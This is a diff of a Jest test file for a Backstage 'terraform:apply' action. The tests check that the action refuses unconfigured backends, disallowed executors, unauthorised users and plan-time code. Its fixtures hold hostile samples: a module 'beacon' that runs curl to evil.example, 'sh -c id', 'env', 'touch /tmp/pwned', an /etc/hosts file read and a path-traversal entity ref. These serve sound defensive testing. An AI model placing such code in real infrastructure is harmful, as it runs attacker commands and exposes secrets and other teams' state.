@@ -14,15 +14,20 @@ import {
   makeConfig,
   makeWorkspace,
   PASSING_PLAN,
+  S3_BACKEND,
   SECRET,
   filesUnder,
   sensitivePlanFile,
 } from '../__testUtils__/setup';
 import { CheckpointStore, runAction } from '../__testUtils__/runAction';
 import yaml from 'yaml';
+import { mockCredentials, mockServices } from '@backstage/backend-test-utils';
+import { AuthorizeResult } from '@backstage/plugin-permission-common';
 import { examples } from './terraformApply.examples';
 
 const ENTITY = 'component:default/payments-api';
+
+jest.setTimeout(60_000);
 
 describe('terraform:apply with the local CLI executor', () => {
   let tf: TerraformStandIn;
@@ -308,7 +313,7 @@ describe('terraform:apply with the local CLI executor', () => {
         input: input(),
       });
       expect(refused.error?.message).toMatch(
-        /uses local state, which would be lost/,
+        /dev has no state backend: set terraform\.environments\.dev\.backend in app-config .* or set allowLocalState: true/,
       );
       expect(tf.calls()).toEqual([]);
 
@@ -321,64 +326,84 @@ describe('terraform:apply with the local CLI executor', () => {
       expect(allowed.log).toContain(
         'Local state: the state file lives in the task workspace',
       );
+      // Local in the working directory, whatever backend the code declares.
+      expect(tf.calls().find(c => c.argv[0] === 'init')?.backend).toEqual({
+        type: 'local',
+        config: {},
+      });
     });
 
-    it.each([
-      [
-        { bucket: 'b', key: 'k', region: 'eu-west-1', use_lockfile: true },
-        /"encrypt = true"/,
-      ],
-      [
-        { bucket: 'b', key: 'k', region: 'eu-west-1', encrypt: true },
-        /needs a lock/,
-      ],
-      [
-        { bucket: 'b', region: 'eu-west-1', encrypt: true, use_lockfile: true },
-        /needs "key"/,
-      ],
-      [
-        {
-          bucket: 'b',
-          key: 'k',
-          region: 'r',
-          encrypt: true,
-          dynamodb_table: 't',
-          secret_key: 'x',
-        },
-        /"secret_key" is a credential/,
-      ],
-    ])('an unsafe s3 backend %j', async (settings, message) => {
+    it('backend settings given by a step: config decides where state lives', async () => {
       const run = await runAction({
         config: config(),
         workspace: ws.workspace,
-        input: input({ backend: { type: 's3', settings } }),
+        input: input({
+          backend: {
+            type: 'http',
+            settings: { address: 'https://state.example.com/payments' },
+          },
+        }),
       });
       expect(run.error?.name).toBe('InputError');
-      expect(run.error?.message).toMatch(message);
+      expect(run.error?.message).toBe(
+        'backend must name a state backend configured for dev (terraform.environments.dev.backends: none is configured); a step cannot give backend settings of its own. Ask the portal admins to add the backend to terraform.environments.dev.backends and select it by name.',
+      );
       expect(tf.calls()).toEqual([]);
     });
 
-    it.each([
-      ['gcs', { bucket: 'b' }, /needs "prefix"/],
-      [
-        'azurerm',
-        { storage_account_name: 'a', container_name: 'c' },
-        /needs "key"/,
-      ],
-      ['remote', { organization: 'acme' }, /needs "workspaces"/],
-      [
-        'cloud',
-        { organization: 'acme', workspaces: { name: 'x' }, token: 't' },
-        /"token" is a credential/,
-      ],
-    ])('an unsafe %s backend', async (type, settings, message) => {
+    it('a backend name config does not list', async () => {
+      const run = await runAction({
+        config: config({
+          environments: {
+            dev: { backend: S3_BACKEND, backends: { shared: S3_BACKEND } },
+          },
+        }),
+        workspace: ws.workspace,
+        input: input({ backend: 'other-teams-state' }),
+      });
+      expect(run.error?.name).toBe('InputError');
+      expect(run.error?.message).toMatch(
+        /backend "other-teams-state" is not configured for dev: terraform\.environments\.dev\.backends lists shared/,
+      );
+      expect(tf.calls()).toEqual([]);
+    });
+
+    it('an executor config does not allow in the environment', async () => {
       const run = await runAction({
         config: config(),
         workspace: ws.workspace,
-        input: input({ backend: { type, settings } }),
+        input: input({ executor: 'hcp' }),
       });
-      expect(run.error?.message).toMatch(message);
+      expect(run.error?.name).toBe('InputError');
+      expect(run.error?.message).toMatch(
+        /executor "hcp" is not allowed in dev: terraform\.environments\.dev\.executors lists cli/,
+      );
       expect(tf.calls()).toEqual([]);
+    });
+
+    it('hcp settings on a run that is not on HCP Terraform', async () => {
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input({ hcp: { organization: 'other-team' } }),
+      });
+      expect(run.error?.message).toMatch(
+        /hcp settings apply to executor hcp only/,
+      );
+      expect(tf.calls()).toEqual([]);
+    });
+
+    it('an entity ref the catalog could not hold', async () => {
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input({ entityRef: 'component:default/../../other-team' }),
+      });
+      expect(run.error?.name).toBe('InputError');
+      expect(run.error?.message).toMatch(/has an invalid name/);
+      expect(tf.calls()).toEqual([]);
+      // Not a run of any entity: nothing is reported.
+      expect(run.reports).toEqual([]);
     });
 
     it('a too old or missing binary', async () => {
@@ -404,20 +429,262 @@ describe('terraform:apply with the local CLI executor', () => {
     });
   });
 
-  it('validates a backend declared in the code after init, before planning', async () => {
+  it('selects a configured backend by name, and writes it over the one the code declares', async () => {
     fs.writeFileSync(
       path.join(ws.workspace, 'infra', 'backend.tf'),
-      'terraform {\n  backend "s3" {\n    bucket = "acme"\n    key = "x.tfstate"\n    region = "eu-west-1"\n  }\n}\n',
+      'terraform {\n  backend "s3" {\n    bucket = "other-team"\n    key = "component/default/their-api/dev/infra.tfstate"\n    region = "eu-west-1"\n  }\n}\n',
     );
     const run = await runAction({
-      config: config({ environments: {} }),
+      config: config({
+        environments: {
+          dev: {
+            backend: S3_BACKEND,
+            backends: {
+              shared: {
+                type: 's3',
+                settings: {
+                  ...S3_BACKEND.settings,
+                  bucket: 'acme-shared-{environment}',
+                },
+              },
+            },
+          },
+        },
+      }),
       workspace: ws.workspace,
-      input: input(),
+      input: input({ backend: 'shared' }),
     });
-    expect(run.error?.message).toMatch(
-      /s3 backend of the code in infra is not safe.*encrypt = true/,
+    expect(run.error).toBeUndefined();
+    expect(tf.calls().find(c => c.argv[0] === 'init')?.backend).toEqual({
+      type: 's3',
+      config: {
+        ...S3_BACKEND.settings,
+        bucket: 'acme-shared-dev',
+        key: 'component/default/payments-api/dev/infra.tfstate',
+      },
+    });
+  });
+
+  it('gives two entities with the same name different states, whatever their kind or namespace', async () => {
+    const keys: string[] = [];
+    for (const entityRef of [
+      'component:default/payments-api',
+      'resource:default/payments-api',
+      'component:finance/payments-api',
+      'Component:Default/Payments-API',
+    ]) {
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input({ entityRef }),
+      });
+      expect(run.error).toBeUndefined();
+      keys.push(
+        tf
+          .calls()
+          .filter(c => c.argv[0] === 'init')
+          .pop()!.backend!.config.key as string,
+      );
+    }
+    expect(keys).toEqual([
+      'component/default/payments-api/dev/infra.tfstate',
+      'resource/default/payments-api/dev/infra.tfstate',
+      'component/finance/payments-api/dev/infra.tfstate',
+      // The catalog holds one entity whatever the letter case: one state.
+      'component/default/payments-api/dev/infra.tfstate',
+    ]);
+  });
+
+  describe('code that runs when Terraform plans', () => {
+    it.each([
+      [
+        'external',
+        'data "external" "whoami" {\n  program = ["sh", "-c", "id"]\n}\n',
+        'data "external" "whoami"',
+      ],
+      [
+        'local-exec',
+        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "env"\n  }\n}\n',
+        'provisioner "local-exec" in resource "terraform_data" "x"',
+      ],
+      [
+        'remote-exec',
+        'resource "terraform_data" "x" {\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n',
+        'provisioner "remote-exec" in resource "terraform_data" "x"',
+      ],
+      [
+        'remote-state',
+        'data "terraform_remote_state" "other" {\n  backend = "s3"\n  config = { bucket = "acme-tfstate", key = "component/default/their-api/prod/infra.tfstate", region = "eu-west-1" }\n}\n',
+        'data "terraform_remote_state" "other"',
+      ],
+      [
+        'files-outside',
+        'output "hosts" {\n  value = file("${path.module}/../../../../etc/hosts")\n}\n',
+        'file("${path.module}/../../../../etc/hosts")',
+      ],
+    ])(
+      'refuses %s before init, naming the file, the construct and the config key',
+      async (construct, code, what) => {
+        fs.writeFileSync(path.join(ws.workspace, 'infra', 'attack.tf'), code);
+        const run = await runAction({
+          config: config(),
+          workspace: ws.workspace,
+          input: input(),
+        });
+        expect(run.error?.name).toBe('NotAllowedError');
+        expect(run.error?.message).toContain(`infra/attack.tf: ${what}`);
+        expect(run.error?.message).toContain(`(${construct})`);
+        expect(run.error?.message).toContain(
+          `terraform.environments.dev.allowPlanTimeCode: [${construct}]`,
+        );
+        expect(tf.calls()).toEqual([]);
+        expect(run.reports[0]).toMatchObject({
+          result: 'failed',
+          message: expect.stringContaining('nothing was run'),
+        });
+      },
     );
-    expect(tf.calls().map(c => c.argv[0])).toEqual(['version', 'init']);
+
+    it('runs what config allows in that environment, and nowhere else', async () => {
+      fs.writeFileSync(
+        path.join(ws.workspace, 'infra', 'sha.tf'),
+        'data "external" "sha" {\n  program = ["git", "rev-parse", "HEAD"]\n}\n',
+      );
+      const allowing = config({
+        environments: {
+          dev: { backend: S3_BACKEND, allowPlanTimeCode: ['external'] },
+          prod: { backend: S3_BACKEND },
+        },
+      });
+      const dev = await runAction({
+        config: allowing,
+        workspace: ws.workspace,
+        input: input(),
+      });
+      expect(dev.error).toBeUndefined();
+      expect(dev.log).toContain(
+        'Allowed in dev by terraform.environments.dev.allowPlanTimeCode: infra/sha.tf: data "external" "sha"',
+      );
+      const calls = tf.calls().length;
+      const prod = await runAction({
+        config: allowing,
+        workspace: ws.workspace,
+        input: input({ environment: 'prod' }),
+      });
+      expect(prod.error?.message).toMatch(/prod does not allow it/);
+      expect(tf.calls()).toHaveLength(calls);
+    });
+
+    it('refuses code in the modules init installed, before validate and plan', async () => {
+      tf.configure({
+        modules: {
+          vpc: {
+            source: 'registry.terraform.io/acme/vpc/aws',
+            files: {
+              'main.tf':
+                'data "external" "beacon" {\n  program = ["curl", "-s", "https://evil.example/x"]\n}\n',
+            },
+          },
+        },
+      });
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input(),
+      });
+      expect(run.error?.name).toBe('NotAllowedError');
+      expect(run.error?.message).toContain(
+        'The code in the modules terraform init installed for infra would run programs',
+      );
+      expect(run.error?.message).toContain(
+        'infra/.terraform/modules/vpc/main.tf: data "external" "beacon"',
+      );
+      expect(tf.calls().map(c => c.argv[0])).toEqual(['version', 'init']);
+    });
+
+    it('removes a .terraform folder the workspace brought, so init installs modules itself', async () => {
+      const planted = path.join(ws.workspace, 'infra', '.terraform', 'modules');
+      fs.mkdirSync(path.join(planted, 'vpc'), { recursive: true });
+      fs.writeFileSync(
+        path.join(planted, 'vpc', 'main.tf'),
+        'data "external" "x" {\n  program = ["id"]\n}\n',
+      );
+      fs.writeFileSync(
+        path.join(planted, 'modules.json'),
+        JSON.stringify({
+          Modules: [
+            {
+              Key: 'vpc',
+              Source: 'acme/vpc/aws',
+              Dir: '.terraform/modules/vpc',
+            },
+          ],
+        }),
+      );
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input(),
+      });
+      expect(run.error).toBeUndefined();
+      expect(run.log).toContain(
+        'Removed infra/.terraform from the task workspace: init installs providers and modules itself.',
+      );
+    });
+  });
+
+  describe('who may run it', () => {
+    const owned = {
+      apiVersion: 'backstage.io/v1alpha1',
+      kind: 'Component',
+      metadata: { name: 'payments-api', namespace: 'default' },
+      spec: { type: 'service', owner: 'group:default/payments' },
+    };
+
+    it('refuses someone the policy does not allow, before anything runs, and reports nothing', async () => {
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input(),
+        entities: [owned],
+        permissions: mockServices.permissions({ result: AuthorizeResult.DENY }),
+        credentials: mockCredentials.user('user:default/margaret.hamilton'),
+      });
+      expect(run.error?.name).toBe('NotAllowedError');
+      expect(run.error?.message).toMatch(
+        /^user:default\/margaret\.hamilton may not run terraform:apply in dev for component:default\/payments-api: only its owners and the platform administrators may/,
+      );
+      expect(tf.calls()).toEqual([]);
+      expect(run.reports).toEqual([]);
+    });
+
+    it('refuses a production environment to someone the policy keeps out of it', async () => {
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input({
+          environment: 'prod',
+          entityRef: 'component:default/new-api',
+        }),
+        permissions: mockServices.permissions({ result: AuthorizeResult.DENY }),
+      });
+      expect(run.error?.message).toMatch(
+        /prod is a production environment, and changing it is limited to the groups in groundwork\.permissions\.productionGroups/,
+      );
+      expect(tf.calls()).toEqual([]);
+    });
+
+    it('reports the run on behalf of the person who started the task', async () => {
+      const person = mockCredentials.user('user:default/alan.turing');
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input(),
+        credentials: person,
+      });
+      expect(run.error).toBeUndefined();
+      expect(run.reportedFor).toEqual([person]);
+    });
   });
 
   describe('the governance gate', () => {
@@ -483,16 +750,7 @@ describe('terraform:apply with the local CLI executor', () => {
         config: config({
           environments: {
             dev: {
-              backend: {
-                type: 's3',
-                settings: {
-                  bucket: 'b',
-                  key: 'k',
-                  region: 'r',
-                  encrypt: true,
-                  use_lockfile: true,
-                },
-              },
+              backend: S3_BACKEND,
               gateThreshold: 'high',
             },
           },
@@ -568,16 +826,7 @@ describe('terraform:apply with the local CLI executor', () => {
         config: config({
           environments: {
             staging: {
-              backend: {
-                type: 's3',
-                settings: {
-                  bucket: 'b',
-                  key: 'k',
-                  region: 'r',
-                  encrypt: true,
-                  use_lockfile: true,
-                },
-              },
+              backend: S3_BACKEND,
               budgetAction: 'block',
             },
           },
@@ -592,32 +841,105 @@ describe('terraform:apply with the local CLI executor', () => {
     });
   });
 
-  it('plans, gates and estimates in a dry run, never applies, and shapes outputs as a real run', async () => {
-    tf.configure({ plan: { file: sensitivePlanFile(tf.dir) } });
-    const run = await runAction({
-      config: config(),
-      workspace: ws.workspace,
-      input: input(),
-      isDryRun: true,
+  describe('a dry run', () => {
+    it('checks the inputs, shows what would run, and starts no process', async () => {
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input({ secretVars: { db_password: SECRET } }),
+        isDryRun: true,
+      });
+      expect(run.error).toBeUndefined();
+      expect(tf.calls()).toEqual([]);
+      expect(run.outputs.result).toBe('dry-run');
+      expect(run.outputs.outputs).toEqual({});
+      expect(run.outputs.dryRun).toEqual({
+        executor: 'cli',
+        workingDirectory: 'infra',
+        files: [{ path: 'infra/main.tf', bytes: MAIN_TF.length }],
+        backend: {
+          type: 's3',
+          settings: {
+            ...S3_BACKEND.settings,
+            key: 'component/default/payments-api/dev/infra.tfstate',
+          },
+          from: 'terraform.environments.dev.backend',
+        },
+        commands: [
+          'terraform version -json',
+          'terraform init -input=false -no-color',
+          'terraform validate -no-color',
+          'terraform plan -input=false -no-color -lock-timeout=0s -out=<step temporary directory>/groundwork.tfplan',
+          'terraform show -json -no-color <step temporary directory>/groundwork.tfplan',
+          'terraform apply -input=false -no-color -lock-timeout=0s <step temporary directory>/groundwork.tfplan',
+          'terraform output -json -no-color',
+        ],
+        variables: {
+          vars: ['service_name', 'replicas'],
+          secretVars: ['db_password'],
+        },
+        allowedPlanTimeCode: [],
+      });
+      expect(run.log).toContain(
+        'Dry run: stopped before terraform init. No Terraform process was started, no file was written',
+      );
+      expect(run.log).toContain('zz_groundwork_backend_override.tf.json');
+      expect(JSON.stringify([run.log, run.outputs])).not.toContain(SECRET);
+      // Nothing written next to the code, and not reported: not a run of the entity.
+      expect(fs.readdirSync(path.join(ws.workspace, 'infra'))).toEqual([
+        'main.tf',
+      ]);
+      expect(run.reports).toEqual([]);
     });
-    expect(run.error).toBeUndefined();
-    expect(tf.calls().map(c => c.argv[0])).toEqual([
-      'version',
-      'init',
-      'validate',
-      'plan',
-      'show',
-    ]);
-    expect(Object.keys(run.outputs).sort()).toEqual([
-      'cost',
-      'findings',
-      'outputs',
-      'result',
-      'summary',
-    ]);
-    expect(run.outputs.result).toBe('planned');
-    expect(run.outputs.outputs).toEqual({ vpc_name: 'payments-vpc' });
-    expect(run.reports).toEqual([]);
+
+    it('never runs code, even code config allows, and says what a real run would refuse', async () => {
+      fs.writeFileSync(
+        path.join(ws.workspace, 'infra', 'sha.tf'),
+        'data "external" "sha" {\n  program = ["sh", "-c", "touch /tmp/pwned"]\n}\n',
+      );
+      const allowing = await runAction({
+        config: config({
+          environments: {
+            dev: { backend: S3_BACKEND, allowPlanTimeCode: ['external'] },
+          },
+        }),
+        workspace: ws.workspace,
+        input: input(),
+        isDryRun: true,
+      });
+      expect(allowing.error).toBeUndefined();
+      expect((allowing.outputs.dryRun as any).allowedPlanTimeCode).toEqual([
+        'infra/sha.tf: data "external" "sha" runs a program on the machine that runs Terraform, during the plan (external)',
+      ]);
+      const refusing = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input(),
+        isDryRun: true,
+      });
+      expect(refusing.error?.name).toBe('NotAllowedError');
+      expect(refusing.error?.message).toContain(
+        'infra/sha.tf: data "external" "sha"',
+      );
+      expect(refusing.log).toContain('Dry run: stopped before terraform init');
+      expect(tf.calls()).toEqual([]);
+    });
+
+    it('refuses what a real run would refuse: another executor, another backend', async () => {
+      const run = await runAction({
+        config: config(),
+        workspace: ws.workspace,
+        input: input({
+          backend: { type: 'local', settings: { path: '/etc/x' } },
+        }),
+        isDryRun: true,
+      });
+      expect(run.error?.name).toBe('InputError');
+      expect(run.error?.message).toContain(
+        'terraform.environments.dev.backends',
+      );
+      expect(tf.calls()).toEqual([]);
+    });
   });
 
   it('reports a planOnly run as planned', async () => {
@@ -812,7 +1134,16 @@ describe('terraform:apply with the local CLI executor', () => {
     });
     try {
       const run = await runAction({
-        config: config(),
+        config: config({
+          environments: {
+            dev: { backend: S3_BACKEND },
+            staging: { backend: S3_BACKEND },
+            prod: {
+              backend: S3_BACKEND,
+              backends: { 'shared-services': S3_BACKEND },
+            },
+          },
+        }),
         workspace: example.workspace,
         input: exampleInput,
       });
